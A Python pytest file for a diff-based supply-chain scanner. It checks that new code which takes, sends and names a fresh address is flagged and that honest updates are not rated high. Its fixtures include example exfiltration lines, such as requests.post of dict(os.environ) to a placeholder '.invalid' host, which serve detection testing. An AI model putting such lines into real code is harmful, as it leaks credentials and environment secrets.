"""What is taken and sent at once, what comes in by a side door, and the honest updates near to both."""

from __future__ import annotations

import time
from collections.abc import Sequence
from pathlib import Path

import pytest

from scanner.codescan import addresses, excuses, python_manifests
from scanner.codescan.context import Context
from scanner.codescan.pairing import pair
from scanner.codescan.structure import flow, planted
from scanner.model.finding import Finding, Severity
from scanner.model.signal import Capability, Confidence, Novelty, Signal, Trigger
from scanner.pipeline.diff import Pair, Settings, changes
from tests.codescan.test_reenacted import semgrep
from tests.codescan.trees import Files
from tests.codescan.variations import cases, flows
from tests.codescan.variations.update import Update

__all__ = ["semgrep"]


def test_attacks_are_told_for_the_right_reasons(semgrep: Path) -> None:
    found = _found(flows.ATTACKS, semgrep)
    missed = {one.id: cases.lacking(found[one.id], one.when, one.can) for one in flows.ATTACKS}
    assert {id_: why for id_, why in missed.items() if why} == {}


def test_honest_updates_near_to_them_are_not_high(semgrep: Path) -> None:
    high = {
        id_: [f"{finding.title}: {finding.reason}" for finding in findings if finding.severity >= Severity.HIGH]
        for id_, findings in _found(flows.HONEST, semgrep).items()
    }
    assert {id_: why for id_, why in high.items() if why} == {}


def _found(updates: Sequence[Update], engine: Path) -> dict[str, Sequence[Finding]]:
    pairs = [Pair(old=Files(update.old), new=Files(update.new)) for update in updates]
    judged = changes(pairs, Settings(environ={"PRATIQUE_SEMGREP": str(engine)}))
    return {update.id: one.findings for update, one in zip(updates, judged, strict=True)}


@pytest.mark.parametrize(
    ("text", "named"),
    [
        ('fetch("https://a.columns.invalid/x")', ["a.columns.invalid"]),
        ('fetch("//a.columns.invalid/x")', ["a.columns.invalid"]),
        ('host: "a.columns.invalid"', ["a.columns.invalid"]),
        ('f"{data}.q.columns.invalid"', ["q.columns.invalid"]),
        ('"http://45.9.148.77:80/"', ["45.9.148.77"]),
        ('"http://localhost:80/" + "http://127.0.0.1/" + "https://example.com"', []),
        ("logging.handlers.info", []),
    ],
)
def test_hosts_that_lines_name(text: str, named: list[str]) -> None:
    assert list(dict.fromkeys(addresses.hosts(text))) == named


@pytest.mark.parametrize(
    ("before", "after", "told"),
    [
        ("", 'requests.post("https://new.invalid/", data=dict(os.environ))', True),
        ("# https://new.invalid/", 'requests.post("https://api.new.invalid/", data=dict(os.environ))', False),
        ("", 'requests.post(address, data=dict(os.environ))', False),
        ("dict(os.environ)", 'requests.post("https://new.invalid/", data=dict(os.environ))', True),
        ("", 'requests.post("https://new.invalid/", data=body)', False),
        ("", "print(dict(os.environ))", False),
    ],
)  # fmt: skip
def test_only_the_three_together_are_a_flow(before: str, after: str, told: bool) -> None:
    old, new = Files({"a.py": before + "\n"}), Files({"a.py": before + "\n", "b.py": after + "\n"})
    found = {signal.rule for signal in flow.check(Context(old, new, pair(old, new)))}
    assert found == ({"flow-takes", "flow-sends", "new-address"} if told else set())


HOSTILE = (
    "a",
    "a.",
    "A_TOKEN",
    "=",
    '["a",',
    "(",
    "'",
    "BEGIN A ",
    "process.env ",
    "fetch(",
    "open(",
    "sha ",
    "<img ",
    " ",
)


@pytest.mark.parametrize("piece", HOSTILE)
def test_hostile_text_costs_little(piece: str) -> None:
    text = piece * (30_000 // len(piece))
    # What each check asks first is there, so that it reads the rest.
    around = f'process.env {text} fetch("https://a.invalid") write("{"b" * 20}") sha256 != raise {"a" * 64}\n'
    manifest = '{"name": "template-compiler"}'
    old = Files({"package.json": manifest})
    new = Files({"package.json": manifest, "a.js": around, "b.py": around})
    context = Context(old, new, pair(old, new))
    began = time.process_time()
    list(flow.check(context))
    list(planted.check(context))
    for says, trigger in (
        (Capability.NETWORK, Trigger.BUILD),
        (Capability.CREDENTIALS, Trigger.RUN),
        (Capability.PROCESS, Trigger.BUILD),
        (Capability.DYNAMIC_CODE, Trigger.IMPORT),
    ):
        told = Signal(
            rule="r", says=says, trigger=trigger, confidence=Confidence.HIGH, novelty=Novelty.FILE, path="a.js", line=1,
            excerpt="", message="m", old_path=None,
        )  # fmt: skip
        excuses.milder(context, [told])
    for name in ("setup.py", "setup.cfg", "pyproject.toml", "entry_points.txt"):
        list(python_manifests.named(Files({name: f"pytest11 = {text}"}), name))
        list(python_manifests.named(Files({name: text}), name))
    # Generous: it guards against minutes, not against milliseconds.
    assert time.process_time() - began < 20


def test_what_is_taken_far_from_all_that_sends_costs_little() -> None:
    text = "a(process.env);\n" * 20_000 + "\n" * 5_000 + "fetch(b);\n" * 20_000
    old, new = Files({}), Files({"a.js": text})
    began = time.process_time()
    assert list(flow.check(Context(old, new, pair(old, new)))) == []
    assert time.process_time() - began < 20
